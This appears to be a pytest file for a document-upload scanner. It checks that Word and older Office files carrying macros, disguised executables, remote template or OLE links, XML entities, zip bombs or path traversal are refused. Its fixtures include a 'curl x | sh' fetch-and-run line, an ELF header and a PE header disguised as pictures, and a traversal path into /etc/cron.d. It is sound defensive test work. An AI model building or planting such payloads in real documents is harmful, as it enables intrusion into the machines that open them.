"""What hides inside a document is found by what it is, whatever it is called."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from engine import containers, uploads
from tests.unit.test_uploads import JPG, OLE, PNG

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO = "application/vnd.ms-office.vbaProject"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x40\x00\x00\x00" + b"PE\x00\x00L\x01"


def types(*more: tuple[str, str]) -> bytes:
    """The list of a document's parts and what each is."""
    overrides = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in more)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>{overrides}</Types>'
    ).encode()


def relationships(kind: str, target: str, mode: str = "External") -> bytes:
    """A part's relationship to something else."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def docx(parts: Mapping[str, bytes] | None = None) -> bytes:
    """A document that an office program opens, with more parts, or others in their place."""
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
    whole = {
        "[Content_Types].xml": types(),
        "_rels/.rels": relationships("officeDocument", "word/document.xml", "Internal"),
        "word/document.xml": body,
        **(parts or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in whole.items():
            file.writestr(name, content)
    return made.getvalue()


def ole(*streams: str) -> bytes:
    """The beginning of an OLE file whose directory names these streams."""
    return OLE + b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in ("Root Entry", *streams))


def problem(tmp_path: Path, content: bytes, name: str = "说明.docx") -> str | None:
    (tmp_path / "file").write_bytes(content)
    return uploads.problem(tmp_path / "file", name)


SETTINGS = "word/_rels/settings.xml.rels"
TEMPLATE = "file:///C:\\Users\\someone\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"

GOOD = {
    "nothing more": {},
    "pictures": {"word/media/image1.png": PNG, "word/media/image2.jpg": JPG},
    "a picture under another picture's ending": {"word/media/image1.png": JPG},
    "packed drawing of an old office": {"word/media/image1.emz": b"\x1f\x8b\x08\x00" + b"\x00" * 20},
    "a formula": {"word/embeddings/oleObject1.bin": ole("\x01Ole", "Equation Native")},
    "an embedded document": {"word/embeddings/Microsoft_Word_Document.docx": docx()},
    "a font whose disguise begins like a program": {"word/fonts/font1.odttf": b"MZ" + b"\x13" * 40},
    "a link to click": {"word/_rels/document.xml.rels": relationships("hyperlink", "https://www.example.org/")},
    "the template of the writer's own machine": {SETTINGS: relationships("attachedTemplate", TEMPLATE)},
    "a folder": {"word/media/": b""},
}

BAD = {
    "a macro": ({"word/vbaProject.bin": ole("VBA")}, "宏"),
    "a macro under a harmless name": (
        {"[Content_Types].xml": types(("/word/part.bin", MACRO)), "word/part.bin": ole("VBA")},
        "宏",
    ),
    "a macro that only its content tells": ({"word/part.dat": ole("VBA", "_VBA_PROJECT")}, "宏"),
    "a list of types that hides behind an encoding": (
        {"[Content_Types].xml": types(("/word/p.bin", MACRO)).decode().replace("UTF-8", "UTF-16").encode("utf-16")},
        "宏",
    ),
    "a relationship to a macro": ({"word/_rels/document.xml.rels": relationships("vbaProject", "a", "Internal")}, "宏"),
    "a control": ({"[Content_Types].xml": types(("/a.xml", "application/vnd.ms-office.activeX+xml"))}, "控件"),
    "a program called a picture": ({"word/media/image1.png": PE}, "可执行"),
    "a program called nothing": ({"word/data": PE}, "可执行"),
    "a program of another system": ({"word/media/image1.png": b"\x7fELF\x02\x01\x01"}, "可执行"),
    "a script called a text": ({"word/note.txt": b"#!/bin/sh\ncurl x | sh\n"}, "可执行"),
    "a picture that is none": ({"word/media/image1.png": b"<html><script>"}, "“image1.png”不是图片"),
    "an archive called a picture": ({"word/media/image1.png": b"Rar!\x1a\x07\x00"}, "压缩包"),
    "an archive called data": ({"word/data.bin": docx()}, "压缩包"),
    "a file packed into an object": ({"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}, "可执行程序"),
    "a template from the net": ({SETTINGS: relationships("attachedTemplate", "https://a.example/t.dotm")}, "联网"),
    "a template from a share": ({SETTINGS: relationships("attachedTemplate", "\\\\a.example\\t.dotm")}, "联网"),
    "a template by file://host": ({SETTINGS: relationships("attachedTemplate", "file://a.example/t.dotm")}, "联网"),
    "an object from the net": (
        {SETTINGS: relationships("oleObject", "mhtml:http://a.example/x!x-usc:http://b")},
        "联网",
    ),
    "a frame from the net": ({"word/_rels/w.xml.rels": relationships("frame", "//a.example/f")}, "联网"),
    "a picture from the net": ({"word/_rels/document.xml.rels": relationships("image", "http://a.example/p")}, "联网"),
    "a macro in an embedded document": (
        {"word/embeddings/a.xlsx": docx({"xl/workbook.xml": b"", "xl/vbaProject.bin": b""})},
        "宏",
    ),
    "a document in a document in a document": (
        {"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})},
        "压缩包",
    ),
    "a declaration that could name entities": (
        {"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY e "vba">]><Types>&e;</Types>'},
        "损坏",
    ),
    "types that nobody can read": ({"[Content_Types].xml": b"<Types"}, "损坏"),
    "a way out of the folder": ({"word/../../../etc/cron.d/x": b"x"}, "不安全"),
}


@pytest.mark.parametrize("parts", GOOD.values(), ids=GOOD)
def test_what_offices_write_is_taken(tmp_path: Path, parts: Mapping[str, bytes]) -> None:
    assert problem(tmp_path, docx(parts)) is None


@pytest.mark.parametrize(("parts", "reason"), BAD.values(), ids=BAD)
def test_what_could_act_is_refused_by_its_content(tmp_path: Path, parts: Mapping[str, bytes], reason: str) -> None:
    found = problem(tmp_path, docx(parts))
    assert found is not None
    assert reason in found


@pytest.mark.parametrize("name", ["旧.doc", "旧.xls", "稿.wps"])
def test_an_old_document_with_a_macro_is_refused_wherever_it_stands(tmp_path: Path, name: str) -> None:
    far = ole("Macros", "VBA", "_VBA_PROJECT")[8:]
    across_the_seam = OLE + b"\x00" * (containers.MEGABYTE - len(OLE) - 140) + far
    for content in (OLE + far, across_the_seam, OLE + b"\x00" * 3 * containers.MEGABYTE + far):
        found = problem(tmp_path, content, name)
        assert found is not None
        assert "宏" in found
    assert problem(tmp_path, ole("WordDocument", "1Table"), name) is None


def test_a_program_with_a_pdf_behind_it_is_no_pdf(tmp_path: Path) -> None:
    found = problem(tmp_path, PE + b"%PDF-1.7\n", "证明.pdf")
    assert found is not None
    assert "不符" in found


def test_two_parts_of_one_name_are_refused(tmp_path: Path) -> None:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as file:
        file.writestr("WORD/document.xml", "<other/>")
    assert problem(tmp_path, made.getvalue()) == "内含重名文件"


def test_a_bomb_is_refused_by_its_word(tmp_path: Path) -> None:
    assert problem(tmp_path, docx({"word/media/a.xml": b"\x00" * 65 * containers.MEGABYTE})) == "解压后过大"


def test_documents_in_a_document_do_not_unpack_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each of them alone stays below what anybody asks about."""
    monkeypatch.setattr(containers, "MOST_READ", 8 * containers.MEGABYTE)
    inner = docx({"word/embeddings/oleObject1.bin": OLE + b"\x00" * 3 * containers.MEGABYTE})
    assert problem(tmp_path, docx({"word/embeddings/1.docx": inner})) is None
    assert problem(tmp_path, docx({f"word/embeddings/{n}.docx": inner for n in range(4)})) == "解压后过大"
